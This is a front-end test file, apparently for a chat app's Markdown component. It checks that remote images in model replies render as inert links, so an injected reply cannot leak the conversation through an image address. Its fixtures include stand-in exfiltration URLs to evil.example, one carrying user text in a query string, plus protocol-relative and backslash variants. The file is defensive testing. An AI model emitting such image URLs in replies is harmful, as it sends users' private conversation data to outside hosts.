/**
 * Finding #10: a reply's remote images are links, never loaded. An injected reply could otherwise
 * send the conversation to any host in an image's address the moment it renders, without a click.
 */
import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';

import { Markdown } from '../../src/markdown/Markdown';

const LEAK = 'https://evil.example/pixel.png?q=my%20name%20is%20Lina';

describe('<Markdown> images', () => {
  it('shows a remote image as a link that opens in a new tab, and loads nothing', () => {
    const { container } = render(
      <Markdown content={`Look: ![a cell diagram](${LEAK}) and ![](https://cdn.example/b.png)`} />,
    );
    expect(container.querySelector('img')).toBeNull();
    const link = screen.getByRole('link', {
      name: /^Image: a cell diagram ?\(opens in a new tab\)$/,
    });
    expect(link).toHaveAttribute('href', LEAK);
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    // No alt text: the link names the host.
    expect(screen.getByRole('link', { name: /^Image: cdn\.example/ })).toBeInTheDocument();
  });

  it('treats a protocol-relative address as remote, and never lets a backslash reach another host', () => {
    const { container } = render(
      <Markdown content={'![one](//evil.example/a.png) ![two](/\\evil.example/b.png)'} />,
    );
    expect(screen.getByRole('link', { name: /^Image: one/ })).toHaveAttribute(
      'href',
      '//evil.example/a.png',
    );
    // Browsers read a slash and a backslash as "//host"; markdown percent-encodes the backslash, so it stays a path here.
    for (const image of container.querySelectorAll('img'))
      expect(new URL(image.src).host).toBe(window.location.host);
  });

  it("still shows the app's own images inline", () => {
    render(<Markdown content={'![a chart](/api/v1/charts/week.png)'} />);
    const image = screen.getByRole('img', { name: 'a chart' });
    expect(image).toHaveAttribute('src', '/api/v1/charts/week.png');
    expect(screen.queryByRole('link')).toBeNull();
  });

  it('shows a streamed reply with a remote image as a link too', () => {
    render(<Markdown content={`Here: ![map](${LEAK})`} streaming />);
    expect(document.querySelector('img')).toBeNull();
    expect(screen.getByRole('link', { name: /^Image: map/ })).toHaveAttribute('href', LEAK);
  });
});
